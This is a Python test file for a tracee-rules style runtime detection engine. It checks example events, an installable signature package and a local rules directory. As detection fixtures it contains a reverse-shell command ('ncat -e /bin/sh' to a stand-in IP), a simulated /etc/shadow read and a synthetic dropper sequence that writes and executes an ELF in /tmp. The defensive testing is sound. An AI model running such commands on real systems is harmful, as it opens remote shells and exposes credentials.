"""The examples work as their READMEs say, through the real ``tracee-rules`` command.

* ``examples/events``: the demo input fires what the scenario of
  ``benchmarks/workload.py`` injected (the expectation comes from the scenario's
  definition, the attack table in ``benchmarks/attacks.py``, not from running the
  engine), in raw and parse-arguments form, and the committed files are what the
  generator writes. workload.py is loaded from its file; it puts its own
  directory on ``sys.path`` for the modules next to it.
* ``examples/custom-signature-package``: installed with pip into a scratch
  directory, its signatures are picked up through the ``pytracee`` entry point.
* ``examples/rules-dir``: ``--rules-dir`` loads the local signature (and not its
  tests) and it fires.

Each runs ``tracee-rules`` as a subprocess, as a user would.
"""

from __future__ import annotations

import gzip
import importlib.util
import os
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path
from types import ModuleType
from typing import Any

import orjson
import pytest
from pytracee.engine.testing import make_event

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
DEMO = EXAMPLES / "events" / "demo.jsonl"
DEMO_PARSED = EXAMPLES / "events" / "demo-parse-arguments.jsonl.gz"
PACKAGE = EXAMPLES / "custom-signature-package"
RULES_DIR = EXAMPLES / "rules-dir"


def _load_workload() -> ModuleType:
    name = "pytracee_benchmarks_workload"
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, ROOT / "benchmarks" / "workload.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module  # dataclasses look their module up while the class is built
    spec.loader.exec_module(module)
    return module


workload = _load_workload()


def tracee_rules_command() -> list[str]:
    """The ``tracee-rules`` console script of this interpreter's environment (or the module)."""
    script = Path(sys.executable).parent / "tracee-rules"
    if script.exists():
        return [str(script)]
    found = shutil.which("tracee-rules")
    if found:
        return [found]
    return [sys.executable, "-m", "pytracee.engine.cli.tracee_rules"]


def tracee_rules(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        [*tracee_rules_command(), *map(str, args)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, **(env or {})},
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, f"tracee-rules {' '.join(map(str, args))} exited {proc.returncode}:\n{proc.stderr}"
    return proc


def findings(proc: subprocess.CompletedProcess[str]) -> list[dict[str, Any]]:
    """The rawjson findings printed on stdout, one JSON object per line."""
    return [orjson.loads(line) for line in proc.stdout.splitlines() if line.strip()]


def ids(proc: subprocess.CompletedProcess[str]) -> Counter[str]:
    return Counter(f["SigMetadata"]["ID"] for f in findings(proc))


# --- examples/events ----------------------------------------------------------------------


def test_demo_fires_every_injected_attack() -> None:
    expected = workload.DEMO_EXPECTED_FINDINGS  # from the scenario's attack table
    assert len(expected) >= 12
    proc = tracee_rules("--input", DEMO.relative_to(ROOT), "--output-template", "rawjson")
    assert ids(proc) == expected
    assert "0 skipped" in proc.stderr


def test_demo_in_parse_arguments_form_gives_the_same_findings() -> None:
    raw = tracee_rules("--input", DEMO, "--output-template", "rawjson")
    parsed = tracee_rules("--input", DEMO_PARSED, "--output-template", "rawjson")
    assert ids(parsed) == ids(raw) == workload.DEMO_EXPECTED_FINDINGS
    # The same events fired, only their argument values are spelled differently.
    key = [(f["SigMetadata"]["ID"], f["Context"]["timestamp"]) for f in findings(raw)]
    assert [(f["SigMetadata"]["ID"], f["Context"]["timestamp"]) for f in findings(parsed)] == key


def test_demo_files_are_what_the_generator_writes() -> None:
    """The committed demo inputs can be regenerated (see examples/events/README.md)."""
    for path, parse_arguments in ((DEMO, False), (DEMO_PARSED, True)):
        expected = b"".join(orjson.dumps(ev) + b"\n" for ev in workload.demo_events(parse_arguments=parse_arguments))
        actual = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        assert actual == expected, (
            f"{path.relative_to(ROOT)} is stale: regenerate it with benchmarks/workload.py --demo"
        )


def test_demo_arguments_differ_only_in_form() -> None:
    raw_lines = DEMO.read_bytes().splitlines()
    parsed_lines = gzip.decompress(DEMO_PARSED.read_bytes()).splitlines()
    assert len(raw_lines) == len(parsed_lines) >= 300
    first_open = next(i for i, line in enumerate(raw_lines) if b'"security_file_open"' in line)
    raw_args = {a["name"]: a["value"] for a in orjson.loads(raw_lines[first_open])["args"]}
    parsed_args = {a["name"]: a["value"] for a in orjson.loads(parsed_lines[first_open])["args"]}
    assert isinstance(raw_args["flags"], int)
    assert isinstance(parsed_args["flags"], str) and parsed_args["flags"].startswith("O_")


# --- examples/custom-signature-package ----------------------------------------------------


def _install_package(target: Path, scratch: Path) -> None:
    """``pip install`` the example package into ``target`` (put on PYTHONPATH by the tests).

    A copy is built so the checkout gets no build/ or egg-info directories; the
    build uses the environment's setuptools (scripts/setup.sh installs it).
    """
    source = scratch / "custom-signature-package"
    shutil.copytree(
        PACKAGE, source, ignore=shutil.ignore_patterns("build", "*.egg-info", "__pycache__", ".pytest_cache")
    )
    command = [
        sys.executable,
        "-m",
        "pip",
        "install",
        "--no-deps",
        "--no-build-isolation",
        "--no-input",
        "--disable-pip-version-check",
        "--target",
        str(target),
        str(source),
    ]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, f"pip could not install the example package:\n{result.stdout}\n{result.stderr}"


@pytest.fixture(scope="module")
def installed_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("site-packages")
    _install_package(target, tmp_path_factory.mktemp("build"))
    assert (target / "example_signatures" / "__init__.py").exists()
    return target


@pytest.mark.packaging
def test_installed_package_is_listed(installed_package: Path) -> None:
    pythonpath = {"PYTHONPATH": str(installed_package)}
    listing = tracee_rules("--list", env=pythonpath).stdout
    rows = {line.split()[0]: line for line in listing.splitlines() if line.strip()}
    assert "EX-1" in rows and "Shadow password file read by a non-root process" in rows["EX-1"]
    assert "EX-2" in rows and "Reverse shell tool executed" in rows["EX-2"]
    assert "TRC-102" in rows  # next to the built-ins
    # Entry-point plugins are what PYTRACEE_DISABLE_PLUGIN_AUTOLOAD turns off.
    off = tracee_rules("--list", env={**pythonpath, "PYTRACEE_DISABLE_PLUGIN_AUTOLOAD": "1"}).stdout
    assert "EX-1" not in off and "TRC-102" in off


@pytest.mark.packaging
def test_installed_package_detects_its_events(installed_package: Path) -> None:
    proc = tracee_rules(
        "--input", PACKAGE / "events.jsonl", "--output-template", "rawjson", env={"PYTHONPATH": str(installed_package)}
    )
    found = findings(proc)
    assert Counter(f["SigMetadata"]["ID"] for f in found) == {"EX-1": 1, "EX-2": 1}
    by_id = {f["SigMetadata"]["ID"]: f for f in found}
    shadow = by_id["EX-1"]["Data"]
    # on an LSM event, with the syscall behind it (the built-in syscall context)
    assert shadow.pop("syscall_event")["args"]["pathname"] == "/etc/shadow"
    assert shadow == {"path": "/etc/shadow", "uid": 1000}
    assert by_id["EX-2"]["Data"] == {"tool": "ncat", "command": "ncat -e /bin/sh 203.0.113.7 4444"}
    assert by_id["EX-2"]["Context"]["container"]["name"] == "nginx"
    # Without the package the same events are quiet: the benign ones really are benign.
    assert ids(tracee_rules("--input", PACKAGE / "events.jsonl", "--output-template", "rawjson")) == Counter()


# --- examples/rules-dir -----------------------------------------------------------------------


def _write_events(path: Path, events: list[Any]) -> Path:
    path.write_bytes(b"".join(orjson.dumps(event.to_dict()) + b"\n" for event in events))
    return path


def test_rules_dir_signature_fires(tmp_path: Path) -> None:
    elf = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"
    t = 1_717_430_400_000_000_000
    common = {"processName": "curl", "processId": 31337, "userId": 1000}
    events = _write_events(
        tmp_path / "dropper.jsonl",
        [
            make_event("security_file_open", {"pathname": "/tmp/update", "flags": 0o1101, "syscall_pathname": "/tmp/update"}, timestamp=t, **common),
            make_event("magic_write", {"pathname": "/tmp/update", "bytes": elf, "dev": 2049, "inode": 7}, timestamp=t + 1_000, **common),
            make_event("security_file_open", {"pathname": "/tmp/notes.txt", "flags": 0o1101}, timestamp=t + 2_000, **common),
            make_event("sched_process_exec", {"pathname": "/usr/bin/chmod", "argv": ["chmod", "+x", "/tmp/update"], "prev_comm": "sh"}, timestamp=t + 3_000, processName="chmod"),
            make_event("sched_process_exec", {"pathname": "/tmp/update", "argv": ["/tmp/update", "--daemon"], "prev_comm": "sh", "env": ["PATH=/usr/bin"]}, timestamp=t + 2_000_000_000, processName="update"),
        ],
    )  # fmt: skip
    proc = tracee_rules("--rules-dir", RULES_DIR.relative_to(ROOT), "--input", events, "--output-template", "rawjson")
    (finding,) = findings(proc)
    assert finding["SigMetadata"]["ID"] == "LOCAL-1"
    assert finding["Data"] == {
        "path": "/tmp/update",
        "written_by": "curl",
        "writer_pid": 31337,
        "elf": True,
        "seconds_since_write": 1.999999,
    }
    assert finding["Context"]["processName"] == "update"
    assert "not loaded" not in proc.stderr  # the test file next to the rule is not loaded as a rule


def test_rules_dir_signature_on_the_demo() -> None:
    # The demo's "dropped-elf" attack writes /tmp/xmrig in a container and runs it.
    assert "dropped-elf" in workload.ATTACKS
    proc = tracee_rules("--rules-dir", RULES_DIR, "--input", DEMO, "--output-template", "rawjson")
    assert ids(proc) == workload.DEMO_EXPECTED_FINDINGS + Counter({"LOCAL-1": 1})
    listing = tracee_rules("--rules-dir", RULES_DIR, "--list").stdout
    assert "LOCAL-1" in listing and "test_" not in listing
